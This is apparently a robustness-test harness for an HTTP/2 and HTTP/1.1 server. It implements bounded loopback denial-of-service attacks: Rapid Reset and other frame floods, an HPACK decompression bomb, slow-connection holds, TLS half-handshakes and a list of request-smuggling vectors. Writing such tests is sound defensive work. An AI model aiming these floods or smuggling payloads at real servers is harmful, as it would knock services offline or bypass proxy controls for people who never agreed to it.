"""Attacks on a server of loopback, for test_abuse.py. Each is bounded in connections and in time and ends by itself.

    python attacks.py NAME PORT SECONDS [STREAM CONSUMER]

prints one JSON line: connections made, how many of them were never cut, and the longest time that one was served after its first abusive byte
("cut_s"). A connection counts as cut when GOAWAY, an end or a reset has come, or, where it says so, the end of each of its streams.
"""

import json
import os
import pathlib
import resource
import socket
import ssl
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "client"))

import hpack  # noqa: E402
from penstock_client import headers  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
CONNECTIONS_MAX = 5000  # of one attack, over its whole time
CUT_WAIT_S = 6  # after the attack: how long a connection may still take to be cut


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(port, reads=True):
    sock = socket.socket()
    sock.settimeout(5)
    if not reads:  # or the kernel would read megabytes for us
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.connect(("127.0.0.1", port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


class Peer:
    """An attacker's connection: sends what the server takes, and notices when it was cut."""

    def __init__(self, sock, reads=True, h2=True, streams=None):
        """streams: the server may also end so many of them instead of the connection."""
        self.sock, self.reads, self.h2, self.streams = sock, reads, h2, streams
        self.sock.setblocking(False)
        self.began, self.cut_at, self.got, self.out = time.monotonic(), None, bytearray(), b""
        self.over = set()

    def _cut(self):
        if self.cut_at is None:
            self.cut_at = time.monotonic()
            self.sock.close()

    @property
    def cut_s(self):
        return None if self.cut_at is None else self.cut_at - self.began

    def look(self):
        """Reads what is there; one who reads nothing only looks for the end."""
        if self.cut_at is not None:
            return
        try:
            if not self.reads:
                if self.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) or self._hung_up():
                    self._cut()
                return
            while True:
                part = self.sock.recv(1 << 16)
                if not part:
                    return self._cut()
                if self.h2:
                    self.got += part
                    self._frames()
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            self._cut()

    def _hung_up(self):
        info = self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)
        return info[0] != 1  # TCP_ESTABLISHED; the end is behind what was not read

    def _frames(self):
        while self.cut_at is None and len(self.got) >= 9:
            n = int.from_bytes(self.got[:3], "big")
            if len(self.got) < 9 + n:
                return
            if self.streams and (self.got[3] == RST_STREAM or (self.got[3] <= HEADERS and self.got[4] & END_STREAM)):
                self.over.add(self.got[5:9].hex())
            if self.got[3] == GOAWAY or (self.streams and len(self.over) == self.streams):
                return self._cut()
            del self.got[: 9 + n]

    def send(self, data=b""):
        """Returns whether all was taken."""
        self.out += data
        try:
            while self.out and self.cut_at is None:
                self.out = self.out[self.sock.send(self.out) :]
        except (BlockingIOError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self._cut()
        self.look()
        return not self.out

    def close(self):
        self.sock.close()


class Result:
    def __init__(self):
        self.connections, self.cuts, self.uncut = 0, [], 0

    def add(self, peer):
        self.connections += 1
        if peer.cut_s is None:
            self.uncut += 1
        else:
            self.cuts.append(peer.cut_s)
        peer.close()

    def say(self, **more):
        print(json.dumps({"connections": self.connections, "uncut": self.uncut, "cut_s": max(self.cuts, default=None), **more}))


def h2_peer(port, reads=True, settings=b""):
    peer = Peer(connect(port, reads), reads)
    peer.send(PREFACE + frame(SETTINGS, 0, 0, settings))
    return peer


def flood(port, seconds, chunks, reads=True, settings=b"", open_peer=h2_peer):
    """One connection after the other sends what `chunks()` makes, as fast as it is taken, until it is cut; the last one too."""
    result, end = Result(), time.monotonic() + seconds
    while time.monotonic() < end and result.connections < CONNECTIONS_MAX:
        peer = open_peer(port, reads, settings)
        for chunk in chunks():
            while not peer.send(chunk) and peer.cut_at is None and time.monotonic() < end + CUT_WAIT_S:
                chunk = b""
                time.sleep(0.001)
            if peer.cut_at is not None or time.monotonic() > end + CUT_WAIT_S:
                break
        while peer.cut_at is None and time.monotonic() < end + CUT_WAIT_S:
            time.sleep(0.005)
            peer.look()
        result.add(peer)
    result.say()


def hold(port, seconds, count, begin, dribble=lambda i, peer: b"", interval=0.25, **how):
    """`count` connections at once that are as slow as they can be. The attack takes as long as the deadlines of the server do."""
    result, peers = Result(), []
    for i in range(count):
        try:
            peer = Peer(connect(port, how.get("reads", True)), **how)
        except OSError:
            break
        peer.send(begin(i))
        peers.append(peer)
    end = time.monotonic() + max(seconds, CUT_WAIT_S)
    while time.monotonic() < end and any(peer.cut_at is None for peer in peers):
        for i, peer in enumerate(peers):
            if peer.cut_at is None:
                peer.send(dribble(i, peer))
        time.sleep(interval)
    for peer in peers:
        result.add(peer)
    result.say()


# ---- What requests look like -------------------------------------------------------------------------------------------


def h2_block(encoder, operation="PutRecord", path="/", method="POST", extra=()):
    head = [(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path)]
    head += [(name.lower(), value) for name, value in headers(operation).items()] if method == "POST" else []
    return encoder.encode(head + list(extra))


def put_body(stream):
    return json.dumps({"StreamName": stream, "PartitionKey": "k", "Data": "aGVsbG8="}).encode()


def streams(per_stream, path="/", method="POST", extra=(), per_chunk=50, first=1, last=1 << 20):
    """chunks of streams: each HEADERS by HPACK, then what per_stream(id) gives. `None` of it: END_STREAM in HEADERS."""

    def chunks():
        encoder = hpack.Encoder()
        for begin in range(first, last, 2 * per_chunk):
            out = b""
            for stream in range(begin, begin + 2 * per_chunk, 2):
                tail = per_stream(stream)
                flags = END_HEADERS | (END_STREAM if tail is None else 0)
                out += frame(HEADERS, flags, stream, h2_block(encoder, path=path, method=method, extra=extra)) + (tail or b"")
            yield out

    return chunks


def repeat(data, times=1 << 20, before=b""):
    def chunks():
        yield before
        for _ in range(times):
            yield data

    return chunks


def opened(stream=1, flags=END_HEADERS, **how):
    return frame(HEADERS, flags, stream, h2_block(hpack.Encoder(), **how))


def h1_head(operation="PutRecord", extra=""):
    return ("POST / HTTP/1.1\r\nHost: localhost\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers(operation).items()) + extra).encode()


# ---- None ----------------------------------------------------------------------------------------------------------------


def bystander(port, seconds, stream, consumer):
    """No attack: as much work for the machine, and none for the server. What the good consumer pays for this is the machine's, not penstock's."""
    listener = socket.create_server(("127.0.0.1", 0))
    peer = Peer(connect(listener.getsockname()[1]))
    reader, _ = listener.accept()
    result, end, data = Result(), time.monotonic() + seconds, b"x" * 2600
    while time.monotonic() < end:
        peer.send(data)
        reader.recv(len(data))
    result.add(peer)
    result.say()


# ---- HTTP/2: floods ------------------------------------------------------------------------------------------------------


def rapid_reset(port, seconds, stream, consumer):
    body = put_body(stream)
    flood(port, seconds, streams(lambda i: frame(DATA, END_STREAM, i, body) + frame(RST_STREAM, 0, i, b"\0\0\0\x08")))


def subscribe_reset(port, seconds, stream, consumer):
    body = json.dumps({"ConsumerARN": consumer, "ShardId": "shardId-000000000000", "StartingPosition": {"Type": "LATEST"}}).encode()
    encoder_headers = [("x-amz-target", "Kinesis_20131202.SubscribeToShard")]
    flood(port, seconds, streams(lambda i: frame(DATA, END_STREAM, i, body) + frame(RST_STREAM, 0, i, b"\0\0\0\x08"), extra=encoder_headers))


def made_you_reset_window(port, seconds, stream, consumer):
    flood(port, seconds, streams(lambda i: frame(WINDOW_UPDATE, 0, i, b"\x7f\xff\xff\xff")))


def made_you_reset_length(port, seconds, stream, consumer):
    flood(port, seconds, streams(lambda i: frame(DATA, END_STREAM, i, b"0123456789"), extra=[("content-length", "5")]))


def made_you_reset_fields(port, seconds, stream, consumer):
    flood(port, seconds, streams(lambda i: None, extra=[("connection", "close")]))


def streams_over_the_limit(port, seconds, stream, consumer):
    flood(port, seconds, streams(lambda i: b""))


def continuation_flood(port, seconds, stream, consumer):
    flood(port, seconds, repeat(frame(CONTINUATION, 0, 1, b"\0\x01a\x01b") * 200, before=opened(flags=0)))


def ping_flood(port, seconds, stream, consumer):
    flood(port, seconds, repeat(frame(PING, 0, 0, b"12345678") * 100))


def unread_ping_flood(port, seconds, stream, consumer):
    flood(port, seconds, repeat(frame(PING, 0, 0, b"12345678") * 100), reads=False)


def settings_flood(port, seconds, stream, consumer):
    flood(port, seconds, repeat(frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64") * 100))


def empty_data_flood(port, seconds, stream, consumer):
    flood(port, seconds, repeat(frame(DATA, 0, 1) * 100, before=opened()))


def padded_data_flood(port, seconds, stream, consumer):
    flood(port, seconds, repeat(frame(DATA, PADDED, 1, b"\x02\0\0") * 100, before=opened()))


def unknown_frames(port, seconds, stream, consumer):
    flood(port, seconds, repeat(frame(0xBE, 0, 0, b"x" * 16) * 100))


def priority_churn(port, seconds, stream, consumer):
    def chunks():
        for turn in range(1 << 20):
            yield b"".join(
                frame(PRIORITY, 0, 2 * i + 1, struct.pack(">IB", 2 * ((i + 1 + turn) % 500) + 3 if i else 0, 16)) for i in range(400)
            )

    flood(port, seconds, chunks)


def window_dribble(port, seconds, stream, consumer):
    """An answer that may leave byte by byte."""
    settings = struct.pack(">HI", 4, 0)
    before = b"".join(opened(i, END_HEADERS | END_STREAM, path="/metrics", method="GET") for i in range(1, 21, 2))
    one = b"".join(frame(WINDOW_UPDATE, 0, i, b"\0\0\0\x01") for i in range(1, 21, 2))
    flood(port, seconds, repeat(one * 20, before=before), settings=settings)


def hpack_bomb(port, seconds, stream, consumer):
    """One value of 4,000 bytes in the table, named a byte each time: 16,000 of them in a block of 20 KB would unpack to 64 MB."""

    def chunks():
        for i in range(1, 1 << 20, 2):
            block = b"\x83\x86\x84\x01\x01h" + (b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000 if i == 1 else b"")
            yield frame(HEADERS, END_STREAM, i, block + b"\xbe" * 10000) + frame(CONTINUATION, END_HEADERS, i, b"\xbe" * 10000)

    flood(port, seconds, chunks)


# ---- HTTP/2: slow --------------------------------------------------------------------------------------------------------


def h2_slow_head(port, seconds, stream, consumer):
    hold(port, seconds, 150, lambda i: PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, b"\x83\x86"))


def h2_slow_preface(port, seconds, stream, consumer):
    hold(port, seconds, 150, lambda i: PREFACE[:10], lambda i, peer: b"")


def h2_slow_body(port, seconds, stream, consumer):
    def begin(i):
        return PREFACE + frame(SETTINGS, 0, 0) + b"".join(frame(HEADERS, END_HEADERS, s, b"\x83\x86\x84\x01\x01h") for s in range(1, 100, 2))

    hold(port, seconds, 40, begin, lambda i, peer: b"".join(frame(DATA, 0, s, b"x") for s in range(1, 100, 2)), streams=50)


def h2_zero_window(port, seconds, stream, consumer):
    """Answers that nobody takes: 200 pages on each of 10 connections."""
    pages = b"".join(opened(s, END_HEADERS | END_STREAM, path="/metrics", method="GET") for s in range(1, 400, 2))
    hold(port, seconds, 10, lambda i: PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + pages, streams=200)


def h2_unread(port, seconds, stream, consumer):
    """The windows are open, but the socket is never read."""
    pages = b"".join(opened(s, END_HEADERS | END_STREAM, path="/metrics", method="GET") for s in range(1, 1000, 2))
    window = struct.pack(">HI", 4, 1 << 30) + b""
    begin = PREFACE + frame(SETTINGS, 0, 0, window) + frame(WINDOW_UPDATE, 0, 0, b"\x3f\xff\xff\xff") + pages
    hold(port, seconds, 10, lambda i: begin, reads=False)


# ---- HTTP/1.1 ------------------------------------------------------------------------------------------------------------


def h1_slow_head(port, seconds, stream, consumer):
    hold(port, seconds, 300, lambda i: b"POST / HTTP/1.1\r\nHost: localhost\r\nX: ", lambda i, peer: b"y", h2=False)


def h1_slow_body(port, seconds, stream, consumer):
    hold(port, seconds, 300, lambda i: h1_head(extra="Content-Length: 100000\r\n\r\n"), lambda i, peer: b"y", h2=False)


def h1_large_slow_body(port, seconds, stream, consumer):
    """A body that comes fast, and then hardly."""
    head = h1_head(extra="Content-Length: 1000000\r\n\r\n")
    hold(port, seconds, 50, lambda i: head + b"y" * 500000, lambda i, peer: b"y", h2=False)


def h1_slow_reader(port, seconds, stream, consumer):
    """Pipelined questions, no answer read."""
    hold(port, seconds, 100, lambda i: b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * 1500, reads=False, h2=False)


SMUGGLES = [
    "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\nContent-Length: 2\r\n\r\n0\r\n\r\n",
    "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}",
    "Content-Length: 2, 2\r\n\r\n{}",
    "Content-Length: +2\r\n\r\n{}",
    "Content-Length: 0x2\r\n\r\n{}",
    "Content-Length: 2 \t3\r\n\r\n{}",
    "Content-Length : 2\r\n\r\n{}",
    " Content-Length: 2\r\n\r\n{}",
    "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: identity\r\n\r\n{}",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\n\r\n0\r\n\r\n",
    "X: a\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "X: a\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "X: a\rContent-Length: 2\r\n\r\n{}",
    "X: a\0Content-Length: 2\r\n\r\n{}",
    "Transfer-Encoding: chunked\r\n\r\n2;a\nb\r\n{}\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n2\n{}\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n0x2\r\n{}\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n2 \r\n{}\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n2\r\n{}X\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n10000000000000002\r\n{}\r\n0\r\n\r\n",
    "Host: other\r\nContent-Length: 2\r\n\r\n{}",
]


def h1_smuggling(port, seconds, stream, consumer):
    """Each vector with a second request behind it, again and again: never may that be answered."""
    result, end, at, smuggled = Result(), time.monotonic() + seconds, 0, []
    second = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
    while time.monotonic() < end and result.connections < CONNECTIONS_MAX or at < len(SMUGGLES):
        vector = SMUGGLES[at % len(SMUGGLES)]
        at += 1
        sock = connect(port)
        began, got = time.monotonic(), b""
        peer = Peer(sock, h2=False)
        sock.setblocking(True)
        sock.settimeout(CUT_WAIT_S)
        try:
            sock.sendall(h1_head(extra=vector) + second)
            while part := sock.recv(65536):
                got += part
            peer.cut_at = time.monotonic()
        except TimeoutError:
            pass
        except OSError:
            peer.cut_at = time.monotonic()
        peer.began = began
        if got.count(b"HTTP/1.1 ") > 1 or b" 200 " in got:
            smuggled.append(vector)
        result.add(peer)
    result.say(smuggled=smuggled)


# ---- Connections and TLS ---------------------------------------------------------------------------------------------------


def many_connections(port, seconds, stream, consumer):
    hold(port, seconds, 4000, lambda i: b"", h2=False)


def tls_half_handshakes(port, seconds, stream, consumer):
    """A whole hello, and then nothing: the server has signed already."""
    outgoing = ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    half = context.wrap_bio(ssl.MemoryBIO(), outgoing)
    try:
        half.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    hold(port, seconds, 500, lambda i: hello if i % 2 else hello[: len(hello) // 2], h2=False)


def tls_handshakes(port, seconds, stream, consumer):
    """Whole handshakes one after the other, each with a key exchange and a signature. Nothing of it is forbidden."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    result, end = Result(), time.monotonic() + seconds
    while time.monotonic() < end and result.connections < 4 * CONNECTIONS_MAX:
        try:
            context.wrap_socket(connect(port)).close()
        except OSError:
            pass
        result.connections += 1
    result.say()


def stalled_subscription(port, seconds, stream, consumer):
    """A subscription whose window stays shut: a KCL with a slow processor looks just like that, so it is served for its five minutes."""
    body = json.dumps({"ConsumerARN": consumer, "ShardId": "shardId-000000000000", "StartingPosition": {"Type": "TRIM_HORIZON"}}).encode()
    block = h2_block(hpack.Encoder(), operation="SubscribeToShard")
    begin = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 100)) + frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, END_STREAM, 1, body)
    hold(port, seconds, 1, lambda i: begin)


ATTACKS = {name: value for name, value in list(globals().items()) if callable(value) and getattr(value, "__code__", None)
           and value.__code__.co_varnames[: value.__code__.co_argcount] == ("port", "seconds", "stream", "consumer")}
# Those that hold connections and do next to nothing: several of them fit beside each other.
WAITING = {name for name, attack in ATTACKS.items() if "hold" in attack.__code__.co_names}

if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    name, port, seconds, *rest = sys.argv[1:]
    ATTACKS[name](int(port), float(seconds), *(rest + ["", ""])[:2])
